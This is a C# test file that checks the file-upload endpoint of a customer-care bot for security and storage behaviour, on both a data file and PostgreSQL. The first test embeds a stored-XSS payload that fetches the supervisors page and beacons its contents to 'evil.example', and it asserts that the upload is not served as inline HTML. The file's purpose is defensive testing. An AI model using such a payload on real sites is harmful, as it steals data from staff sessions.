using System.Net;
using System.Net.Http.Headers;
using CustomerCare.Bot.Supervisors;
using CustomerCare.Tests.Support;
using Microsoft.Extensions.DependencyInjection;

namespace CustomerCare.Tests.Attack;

/// <summary>Uploads through Direct Line, attacked from outside, on the data file and on PostgreSQL alike.</summary>
public sealed class UploadAttackTests
{
    private static async Task<BotHost> HostAsync(bool postgreSql)
    {
        var host = new BotHost();
        if (postgreSql)
        {
            host.Settings["Storage:Provider"] = "PostgreSql";
            host.Settings["ConnectionStrings:CustomerCare"] = await (await PostgreSqlServer.SharedAsync()).CreateDatabaseAsync("uploadattack");
        }
        return host;
    }

    /// <summary>Uploads one file part with exactly this file name and content type; the status and the attachment's path.</summary>
    private static async Task<(HttpStatusCode Status, string? Path, DirectLineClient Customer)> UploadAsync(HttpClient http, string fileName, string? contentType, byte[] bytes, DirectLineClient? customer = null)
    {
        customer ??= await new DirectLineClient(http).StartAsync();
        var (_, before) = await customer.GetActivitiesAsync();
        using var form = new MultipartFormDataContent();
        var activity = new StringContent("""{"type":"message","text":"my file","from":{"id":"x"}}""");
        activity.Headers.ContentType = new("application/vnd.microsoft.activity");
        form.Add(activity, "activity", "blob");
        var file = new ByteArrayContent(bytes);
        if (contentType is not null)
        {
            file.Headers.TryAddWithoutValidation("Content-Type", contentType);
        }
        file.Headers.TryAddWithoutValidation("Content-Disposition", $"form-data; name=\"file\"; filename=\"{fileName}\"");
        form.Add(file);
        using var request = new HttpRequestMessage(HttpMethod.Post, $"/v3/directline/conversations/{customer.ConversationId}/upload?userId={customer.UserId}") { Content = form };
        request.Headers.Authorization = new("Bearer", customer.Token);
        var response = await http.SendAsync(request);
        if (!response.IsSuccessStatusCode)
        {
            return (response.StatusCode, null, customer);
        }
        var (activities, _) = await customer.GetActivitiesAsync(before);
        var url = activities.Select(a => a?["attachments"]?[0]?["contentUrl"]?.GetValue<string>()).LastOrDefault(u => u is not null);
        return (response.StatusCode, url is null ? null : new Uri(url).PathAndQuery, customer);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AnHtmlUploadWhoseNameIsEmptyAfterGetFileName_IsNotServedInlineAsHtml_FromTheBotsOrigin(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();
        var html = "<script>fetch('/supervisors').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))</script>"u8.ToArray();

        var (status, path, _) = await UploadAsync(http, "x/", "text/html", html);

        if (status != HttpStatusCode.OK)
        {
            return; // nothing kept, nothing served (the data file refuses the name: see AnUploadNamedOnlyByADirectory_…)
        }
        Assert.NotNull(path);
        using var served = await http.GetAsync(path);
        var type = served.Content.Headers.ContentType?.MediaType;
        var disposition = served.Content.Headers.ContentDisposition?.DispositionType;
        var sandboxed = served.Headers.TryGetValues("Content-Security-Policy", out var csp) && csp.Any(v => v.Contains("sandbox", StringComparison.Ordinal));
        Assert.False(type == "text/html" && disposition != "attachment" && !sandboxed,
            $"served {(int)served.StatusCode} as {type}, Content-Disposition: {disposition ?? "(none)"}, no CSP sandbox: a stored XSS on the bot's origin (the supervisors' cookie is sent to it)");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AnUploadNamedOnlyByADirectory_IsKeptAndServed_TheSameOnBothStores(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();

        var (status, path, _) = await UploadAsync(http, "folder/", "image/png", "PNG"u8.ToArray());

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal("PNG"u8.ToArray(), await http.GetByteArrayAsync(path));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AnEmptyFile_IsKeptAndServedEmpty(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();

        var (status, path, _) = await UploadAsync(http, "empty.txt", "text/plain", []);

        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Empty(await http.GetByteArrayAsync(path));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AContentTypeThatIsNoMediaType_DoesNotMakeTheFileUnfetchable(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();

        var (status, path, _) = await UploadAsync(http, "weird.png", "not a media type", "PNG"u8.ToArray());

        Assert.Equal(HttpStatusCode.OK, status);
        using var served = await http.GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task AnUploadLargerThanTheLimit_IsRefused(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();

        var (status, _, _) = await UploadAsync(http, "big.bin", "application/octet-stream", new byte[4 * 1024 * 1024 + 1]);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, status);
    }

    /// <summary>A conversation's transcript expires: the files its customer uploaded go with it, on either store.</summary>
    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task TheFilesOfAnExpiredConversation_AreDeletedWithIt(bool postgreSql)
    {
        await using var host = await HostAsync(postgreSql);
        var http = host.CreateClient();
        var (status, path, _) = await UploadAsync(http, "passport.jpg", "image/jpeg", "JPEG"u8.ToArray());
        Assert.Equal(HttpStatusCode.OK, status);
        Assert.Equal(HttpStatusCode.OK, (await http.GetAsync(path)).StatusCode);
        // Let the transcript writer flush what the turn logged.
        await Task.Delay(1500);

        var expired = await host.Services.GetRequiredService<IRetentionStore>().ExpireAsync(DateTime.UtcNow.AddDays(1));

        Assert.True(expired.Conversations > 0, "nothing expired");
        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(path)).StatusCode);
    }
}
